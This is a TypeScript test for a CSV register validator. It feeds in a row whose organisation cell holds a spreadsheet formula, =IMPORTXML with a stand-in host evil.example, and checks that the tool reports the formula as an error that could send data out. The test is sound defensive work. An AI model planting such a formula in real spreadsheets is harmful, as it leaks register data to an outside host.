/**
 * `npm start -- --register X` on a register whose «Организация» holds =IMPORTXML(…): the run reports
 * the formula (printed and in report.json) as an error that can send the register's data out.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { COLUMNS } from '../../src/domain/columns';

const ROOT = join(__dirname, '..', '..');

const ROW: Record<string, string> = {
  organization: '=IMPORTXML("http://evil.example/?q="&D2, "//a")',
  orgKind: 'Структурное подразделение',
  network: 'ВКонтакте',
  link: 'https://vk.com/otdel_kultury',
  createdOn: '01.12.2026',
  responsibleName: 'Иванова Мария Сергеевна',
  responsiblePosition: 'Начальник отдела',
  responsibleEmail: 'ivanova@shpak.example.ru',
  esiaVerified: 'TRUE',
};

it('reports =IMPORTXML(…) in «Организация» as a formula that can send the register out', () => {
  const work = mkdtempSync(join(tmpdir(), 'npm-start-formula-'));
  try {
    const quote = (text: string) => (/[",\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text);
    const inputs = COLUMNS.filter((column) => column.role === 'input');
    const csv = [inputs.map((c) => quote(c.header)), inputs.map((c) => quote(ROW[c.key] ?? ''))]
      .map((line) => line.join(','))
      .join('\r\n');
    const file = join(work, 'реестр.csv');
    writeFileSync(file, `${csv}\r\n`);
    const run = spawnSync(
      'node',
      ['--import', 'tsx', 'dev/start.ts', '--no-serve', '--today', '2026-12-02', '--register', file, '--out', work],
      { cwd: ROOT, encoding: 'utf8', timeout: 60_000 },
    );
    expect(run.stdout).toMatch(/строка 2: ошибка — «Организация»: в ячейке формула =IMPORTXML\(/);
    const report = JSON.parse(readFileSync(join(work, 'report.json'), 'utf8')) as {
      rows: Array<{ row: number; problems: Array<{ column: string; severity: string; message: string }> }>;
    };
    expect(report.rows[0]?.problems).toContainEqual({
      column: 'Организация',
      severity: 'error',
      message: expect.stringMatching(/формула =IMPORTXML\(.*может отправить туда данные реестра/),
    });
  } finally {
    rmSync(work, { recursive: true, force: true });
  }
}, 60_000);
